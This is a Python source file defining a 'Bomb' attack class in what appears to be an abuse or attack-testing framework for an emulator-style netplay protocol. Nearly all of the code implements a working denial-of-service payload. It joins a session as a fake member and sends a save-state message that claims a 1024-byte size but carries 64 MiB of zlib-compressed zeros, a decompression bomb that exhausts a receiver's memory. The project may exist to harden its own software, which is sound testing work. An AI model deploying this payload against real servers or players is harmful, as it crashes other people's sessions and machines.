import struct
import zlib

from abuse.attack import Attack, netplay_client


class Bomb(Attack):
    name = "bomb"
    what = "serves a state that inflates to far more than it says"

    def run(self):
        packed = zlib.compress(bytes(64 << 20))
        while not self.stop.is_set():
            source = self.source()
            first = self.member(source, nick="bomb", crc=0xB0B0 + self.count)
            if first is None:
                self.stop.wait(0.05)
                continue
            self.pump([first], 0.2)
            other = self.member(source, nick="other", crc=0xB0B0 + self.count)
            pair = [one for one in (first, other) if one]
            while first in pair and not first.asked and not self.stop.is_set():
                self.attempt(other.pump) if other else None
                first.asked = False
                before = len(first.unsent)
                self.attempt(first.pump)
                if first.ended or len(first.unsent) > before:
                    break
                self.stop.wait(0.01)
                break
            first.say(netplay_client.LOAD_SAVESTATE,
                      struct.pack(">II", first.over, 1024) + packed)
            self.pump(pair, 0.3)
            for one in pair:
                one.close()
